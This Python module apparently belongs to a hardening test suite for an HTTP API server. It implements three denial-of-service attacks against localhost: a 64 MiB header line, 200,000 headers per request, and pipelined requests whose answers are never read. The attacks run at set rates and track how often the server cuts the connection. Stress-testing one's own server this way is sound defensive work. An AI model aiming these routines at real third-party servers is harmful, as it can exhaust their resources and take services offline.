"""HTTP/1.1 headers without end: one line of 64 MiB, many lines, and pipelined requests that nobody reads."""

import asyncio
from contextlib import suppress

from penstock.proofs.hostile.attacks.attack import AttackRun, Pace
from penstock.proofs.hostile.wire.http1 import request

HEADER_LINE_BYTES = 64 << 20
HEADER_PIECE_BYTES = 1 << 18
HEADER_BYTES_PER_S = 32 << 20
HEADERS_PER_S = 100_000
HEADERS_OF_A_PIECE = 500
MANY_HEADERS = 200_000
PIPELINED_PER_S = 500
PIPELINED_OF_A_PIECE = 25
START = b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\n"


async def header_line(run: AttackRun) -> None:
    """Send one header line of 64 MiB on each connection."""
    pieces = HEADER_LINE_BYTES // HEADER_PIECE_BYTES
    await run.repeat(lambda run: _send_pieces(run, START + b"X-Long: ", b"v" * HEADER_PIECE_BYTES, pieces))


async def many_headers(run: AttackRun) -> None:
    """Send 200,000 small headers in each request."""
    piece, pieces = b"a: b\r\n" * HEADERS_OF_A_PIECE, MANY_HEADERS // HEADERS_OF_A_PIECE
    await run.repeat(lambda run: _send_pieces(run, START, piece, pieces))


async def pipelining(run: AttackRun) -> None:
    """Send requests without a key back to back, and read no answer."""
    piece = request("GET", "/v1/models") * PIPELINED_OF_A_PIECE

    async def pipeline_once(run: AttackRun) -> None:
        async with run.tcp() as (_, writer):
            pace = Pace(PIPELINED_PER_S)
            while not writer.is_closing():
                await _write(run, writer, piece, PIPELINED_OF_A_PIECE)
                await pace.wait(PIPELINED_OF_A_PIECE)

    await run.repeat(pipeline_once)


async def _send_pieces(run: AttackRun, start: bytes, piece: bytes, pieces: int) -> None:
    rate = HEADER_BYTES_PER_S if len(piece) == HEADER_PIECE_BYTES else HEADERS_PER_S * len(piece) // HEADERS_OF_A_PIECE
    async with run.tcp() as (reader, writer):
        pace = Pace(rate)
        await _write(run, writer, start)
        for _ in range(pieces):
            await pace.wait(len(piece))
            await _write(run, writer, piece)
            if reader.at_eof() or writer.is_closing():
                break
        run.report.cut += reader.at_eof() or writer.is_closing()


async def _write(run: AttackRun, writer: asyncio.StreamWriter, data: bytes, pieces: int = 1) -> None:
    writer.write(run.count_sent(data, pieces))
    with suppress(TimeoutError):  # the server does not read: the rest of the run goes on with what fits
        async with asyncio.timeout(max(0.01, min(1.0, run.left_s))):
            await writer.drain()
